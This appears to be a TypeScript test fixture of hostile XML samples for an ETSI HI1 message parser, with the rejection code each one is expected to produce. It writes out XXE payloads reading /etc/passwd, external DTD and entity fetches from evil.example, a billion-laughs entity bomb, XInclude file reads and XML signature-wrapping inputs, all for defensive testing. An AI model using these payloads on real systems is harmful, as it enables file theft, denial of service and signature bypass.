/** Messages made to harm their reader, and what becomes of each. */
import type { UnreadableCode } from '../../../schemas/unreadable.ts';
import { bytesOf, readExample } from './examples.ts';

export interface HostileSample {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** The refusal, or the verdict on what is readable and harmless. */
  readonly outcome: UnreadableCode | 'valid' | 'invalid';
}

const order = readExample('01_production_request.xml');
const body = order.slice(order.indexOf('<HI1Message'));
const xmlDecl = '<?xml version="1.0" encoding="UTF-8"?>\n';
const core = 'xmlns="http://uri.etsi.org/03120/common/2019/10/Core"';

const insteadOf = (part: string, by: string): string => order.replace(part, () => by);
const afterPayload = (text: string): string => insteadOf('</Payload>', `</Payload>${text}`);
const before = (text: string): string => xmlDecl + text + body;
const value = (text: string): string => insteadOf('wisp-ie-sandbox', text);
const utf16 = (text: string, isBigEndian: boolean, mark: boolean): Uint8Array => {
  const bytes = Buffer.from((mark ? '\uFEFF' : '') + text, 'utf16le');
  return isBigEndian ? bytes.swap16() : bytes;
};
const nested = (depth: number): string => '<a>'.repeat(depth) + '</a>'.repeat(depth);
const numbered = (count: number, one: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => one(index)).join('');
const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${numbered(12, (n) => `<!ENTITY a${n} "&a${n - 1};&a${n - 1};">`)}]>`;

type Row = readonly [string, string | Uint8Array, HostileSample['outcome']];

const declarations: readonly Row[] = [
  ['empty document type', before('<!DOCTYPE HI1Message>'), 'xml.doctype'],
  ['document type in lower case', before('<!doctype HI1Message>'), 'xml.doctype'],
  ['document type after a comment', before('<!-- x --><!DOCTYPE HI1Message []>'), 'xml.doctype'],
  ['outside DTD', before('<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'), 'xml.doctype'],
  ['public DTD', before('<!DOCTYPE x PUBLIC "-//X" "http://evil.example/">'), 'xml.doctype'],
  [
    'outside entity of a file',
    before('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>').replace(
      'wisp-ie-sandbox',
      '&f;',
    ),
    'xml.doctype',
  ],
  [
    'parameter entity',
    before('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>'),
    'xml.doctype',
  ],
  ['billion laughs', before(laughs).replace('wisp-ie-sandbox', '&a11;'), 'xml.doctype'],
  ['entity that grows by itself', before('<!DOCTYPE x [<!ENTITY a "&a;">]>'), 'xml.doctype'],
  ['default attribute by DTD', before('<!DOCTYPE x [<!ATTLIST x y CDATA "z">]>'), 'xml.doctype'],
  ['document type inside the root', insteadOf('<Header>', '<!DOCTYPE x><Header>'), 'xml.doctype'],
  ['document type behind the root', `${order}<!DOCTYPE x>`, 'xml.doctype'],
  ['entity declaration alone', before('<!ENTITY a "b">'), 'xml.doctype'],
  ['document type as text of a comment', before('<!-- <!DOCTYPE x> -->'), 'valid'],
  ['document type as text of CDATA', value('<![CDATA[<!DOCTYPE x>]]>'), 'valid'],
  ['entity nobody declared', value('&xxe;'), 'xml.notWellFormed'],
  ['entity of HTML', value('&nbsp;'), 'xml.notWellFormed'],
  ['reference to character zero', value('&#0;'), 'xml.notWellFormed'],
  ['reference to a control character', value('&#x1F;'), 'xml.notWellFormed'],
  ['reference to half a surrogate pair', value('&#xD800;'), 'xml.notWellFormed'],
];

const inclusion: readonly Row[] = [
  [
    'XInclude of a file',
    value(
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>',
    ),
    'invalid',
  ],
  [
    'style sheet',
    before('<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>'),
    'valid',
  ],
  ['catalogue', before('<?oasis-xml-catalog catalog="http://evil.example/c.xml"?>'), 'valid'],
  ['second XML declaration', before('<?xml version="1.0"?>'), 'xml.notWellFormed'],
  ['declaration behind white space', ` ${order}`, 'xml.notWellFormed'],
  ['instruction called XML', insteadOf('<Header>', '<?XML x?><Header>'), 'xml.notWellFormed'],
  ['open instruction', `${order}<?x`, 'xml.notWellFormed'],
  ['member behind an instruction', insteadOf('<Version>', '<?x?><Extra/><Version>'), 'invalid'],
  [
    'schema of its own',
    insteadOf('<HI1Message', '<HI1Message xsi:schemaLocation="urn:x file:///etc/passwd"'),
    'valid',
  ],
  [
    'schema of its own for its own extension',
    insteadOf(
      '<Header>',
      '<Header xsi:schemaLocation="urn:x ombud-schema:///core.xsd" xmlns:x="urn:x" x:y="1">',
    ),
    'invalid',
  ],
];

const encodings: readonly Row[] = [
  [
    'UTF-16 little endian with mark',
    utf16(order.replace('UTF-8', 'UTF-16'), false, true),
    'xml.encoding',
  ],
  [
    'UTF-16 big endian with mark',
    utf16(order.replace('UTF-8', 'UTF-16'), true, true),
    'xml.encoding',
  ],
  ['UTF-16 without mark', utf16(order, false, false), 'xml.encoding'],
  ['document type in UTF-16', utf16(before('<!DOCTYPE x>'), true, false), 'xml.encoding'],
  ['UTF-32', Buffer.from([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]), 'xml.encoding'],
  ['UTF-7 by declaration', order.replace('UTF-8', 'UTF-7'), 'xml.encoding'],
  ['ISO 8859-1 by declaration', order.replace('UTF-8', 'ISO-8859-1'), 'xml.encoding'],
  ['EBCDIC by declaration', order.replace('"UTF-8"', "'IBM037'"), 'xml.encoding'],
  ['ISO 8859-1 in fact', Buffer.from(value('Malmö'), 'latin1'), 'xml.encoding'],
  [
    'overlong slash',
    Buffer.concat([bytesOf('<a>'), Buffer.from([0xc0, 0xaf]), bytesOf('</a>')]),
    'xml.encoding',
  ],
  ['surrogates in UTF-8', Buffer.from([0x3c, 0x61, 0xed, 0xa0, 0x80, 0x3e]), 'xml.encoding'],
  ['character cut in half', Buffer.concat([bytesOf(order), Buffer.from([0xc3])]), 'xml.encoding'],
  ['NUL inside', value('wisp\0sandbox'), 'xml.encoding'],
  ['NUL behind the end', `${order}\0`, 'xml.encoding'],
  ['two byte order marks', `\uFEFF\uFEFF${order}`, 'xml.encoding'],
  ['byte order mark', `\uFEFF${order}`, 'valid'],
  ['XML 1.1', order.replace('"1.0"', '"1.1"'), 'xml.version'],
  ['control character', value('\u0007'), 'xml.notWellFormed'],
  ['non-character U+FFFF', value('\uFFFF'), 'xml.notWellFormed'],
];

const floods: readonly Row[] = [
  ['nothing', '', 'xml.empty'],
  ['byte order mark alone', '\uFEFF', 'xml.empty'],
  ['more than 40 MB', new Uint8Array(40 * 1024 * 1024 + 1).fill(0x20), 'xml.tooLarge'],
  ['65 levels', insteadOf('<Header>', `<Header>${nested(63)}`), 'xml.tooDeep'],
  ['a million levels', '<a>'.repeat(1_000_000), 'xml.tooDeep'],
  ['64 levels', insteadOf('<Header>', `<Header>${nested(62)}`), 'invalid'],
  ['150 000 elements', value(`<x>${'<y/>'.repeat(11_000)}</x>`.repeat(14)), 'xml.tooManyElements'],
  ['12 001 children', value('<y/>'.repeat(12_001)), 'xml.tooManyChildren'],
  [
    '65 attributes',
    insteadOf('<Header>', `<Header${numbered(65, (n) => ` a${n}=""`)}>`),
    'xml.tooManyAttributes',
  ],
  [
    '65 namespace declarations',
    insteadOf('<Header>', `<Header${numbered(65, (n) => ` xmlns:a${n}="u"`)}>`),
    'xml.tooManyAttributes',
  ],
  [
    'attribute of 100 KB',
    insteadOf('<Header>', `<Header a="${'x'.repeat(100_000)}">`),
    'xml.tooManyAttributes',
  ],
  [
    'ever other prefixes',
    value(numbered(6000, (n) => `<y xmlns:a${n}="urn:${n}"/>`)),
    'xml.tooManyPrefixes',
  ],
  [
    'element name of 100 KB',
    insteadOf('<Header>', `<${'x'.repeat(100_000)}/><Header>`),
    'xml.nameTooLong',
  ],
  [
    'attribute name of 257 bytes',
    insteadOf('<Header>', `<Header ${'x'.repeat(257)}="">`),
    'xml.nameTooLong',
  ],
  [
    'prefix __proto__',
    insteadOf('<Header>', '<Header xmlns:__proto__="urn:x">'),
    'xml.forbiddenName',
  ],
];

const brokenForms: readonly Row[] = [
  ['no XML at all', 'PK\u0003\u0004', 'xml.notWellFormed'],
  ['HTML', '<html><body>Sign in</body></html>', 'xml.notHi1'],
  ['JSON', '{"HI1Message":{}}', 'xml.notWellFormed'],
  ['cut in a tag', order.slice(0, order.indexOf('<Payload') + 4), 'xml.notWellFormed'],
  [
    'cut in an attribute',
    `${order.slice(0, order.indexOf('xsi:type="') + 12)}`,
    'xml.notWellFormed',
  ],
  ['cut in a comment', `${order}<!-- `, 'xml.notWellFormed'],
  ['cut in CDATA', value('<![CDATA[').slice(0, 2000), 'xml.notWellFormed'],
  ['cut behind the header', order.slice(0, order.indexOf('<Payload')), 'xml.notWellFormed'],
  ['two roots', `${order}${body}`, 'xml.notWellFormed'],
  ['text behind the root', `${order}text`, 'xml.notWellFormed'],
  ['attribute twice', insteadOf('<Header>', '<Header a="1" a="2">'), 'xml.notWellFormed'],
  [
    'attribute twice under two prefixes',
    insteadOf('<Header>', '<Header xmlns:p="urn:x" xmlns:q="urn:x" p:a="1" q:a="2">'),
    'xml.notWellFormed',
  ],
  ['prefix nobody declared', insteadOf('<Header>', '<nope:a/><Header>'), 'xml.notWellFormed'],
  ['prefix xml taken', insteadOf('<Header>', '<Header xmlns:xml="urn:x">'), 'xml.notWellFormed'],
  ['overlapping elements', insteadOf('</Header>', '</Payload>'), 'xml.notWellFormed'],
  ['tag inside an attribute', insteadOf('<Header>', '<Header a="<b>">'), 'xml.notWellFormed'],
  ['end of CDATA in text', value(']]>'), 'xml.notWellFormed'],
  ['value split by a comment', value('wisp-<!-- x -->ie'), 'valid'],
];

const ds = 'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"';
const thing = `<HI1Object ${core} xmlns:doc="http://uri.etsi.org/03120/common/2020/09/Document" xsi:type="doc:DocumentObject"><ObjectIdentifier>7e84603b-be7b-4cba-af26-8468d177f36b</ObjectIdentifier></HI1Object>`;

const wrappings: readonly Row[] = [
  ['other root', `<Message ${core}/>`, 'xml.notHi1'],
  ['root of another namespace', order.replace('2019/10/Core', '2019/10/Cores'), 'xml.notHi1'],
  ['message in an envelope', `<Envelope xmlns="urn:e">${body}</Envelope>`, 'xml.notHi1'],
  ['signature around the message', `<ds:Signature ${ds}>${body}</ds:Signature>`, 'xml.notHi1'],
  [
    'message in ds:Signature',
    afterPayload(`<ds:Signature ${ds}>${body}</ds:Signature>`),
    'xml.wrapped',
  ],
  ['message in Signature', afterPayload(`<Signature>${body}</Signature>`), 'xml.wrapped'],
  ['message in a message', insteadOf('<Header>', `${body}<Header>`), 'xml.wrapped'],
  [
    'object in ds:Signature',
    afterPayload(`<ds:Signature ${ds}><ds:Object>${thing}</ds:Object></ds:Signature>`),
    'xml.wrapped',
  ],
  ['object in Signature', afterPayload(`<Signature>${thing}</Signature>`), 'xml.wrapped'],
  ['object in Signatures', afterPayload(`<Signatures><x>${thing}</x></Signatures>`), 'xml.wrapped'],
  ['object in an object', insteadOf('<CountryCode>DE', `${thing}<CountryCode>DE`), 'xml.wrapped'],
  [
    'object where none belongs',
    insteadOf('<ActionRequests>', `${thing}<ActionRequests>`),
    'invalid',
  ],
  [
    'same xml:id twice',
    insteadOf('<Header>', '<Header xml:id="a"><x xml:id="a"/>'),
    'xml.duplicateId',
  ],
  [
    'same Id of two signatures',
    afterPayload(`<ds:Signature ${ds} Id="a"><ds:Object Id="a"/></ds:Signature>`),
    'xml.duplicateId',
  ],
  [
    'same id under two attribute names',
    afterPayload(`<ds:Signature ${ds} ID="a"><ds:Object xmlns:u="urn:u" u:Id="a"/></ds:Signature>`),
    'xml.duplicateId',
  ],
  [
    'two ids of a signature',
    afterPayload(`<ds:Signature ${ds} Id="a"><ds:Object Id="b"/></ds:Signature>`),
    'valid',
  ],
];

const rows = [declarations, inclusion, encodings, floods, brokenForms, wrappings].flat();

export const hostileSamples: readonly HostileSample[] = rows.map(([name, text, outcome]) => ({
  name,
  bytes: typeof text === 'string' ? bytesOf(text) : text,
  outcome,
}));
